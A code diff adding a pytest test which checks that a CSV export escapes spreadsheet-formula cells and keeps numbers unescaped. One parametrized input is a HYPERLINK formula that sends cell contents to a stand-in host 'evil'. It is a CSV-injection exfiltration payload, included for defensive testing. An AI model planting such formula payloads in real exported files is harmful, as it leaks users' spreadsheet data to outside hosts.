@@ -347,3 +347,15 @@ def test_an_empty_tree_still_renders() -> None:
     assert "no objectives configured" in render_markdown(doc)
     page = render_html(doc)
     assert "<main>" in page and "no objectives configured" in page
+
+
+@pytest.mark.parametrize("title", ['=HYPERLINK("https://evil/?"&A1,"x")', "+1+1", "-2", "@SUM(A1)", "\tx"])
+def test_csv_cells_cannot_carry_spreadsheet_formulas(title: str) -> None:
+    doc = json.loads(json.dumps(DOC))
+    doc["key_results"][0]["title"] = title
+    doc["key_results"][0]["action_plans"][0]["summary"] = title
+    rows = list(csv.DictReader(io.StringIO(render_csv(doc))))
+    titles = [r["title"] for r in rows if r["title"].lstrip("'") == title]
+    assert len(titles) == 2 and all(t == "'" + title for t in titles)
+    numbers = [r["progress"] for r in rows if r["kind"] == "key_result"]
+    assert all(not n.startswith("'") for n in numbers)  # numbers stay numbers
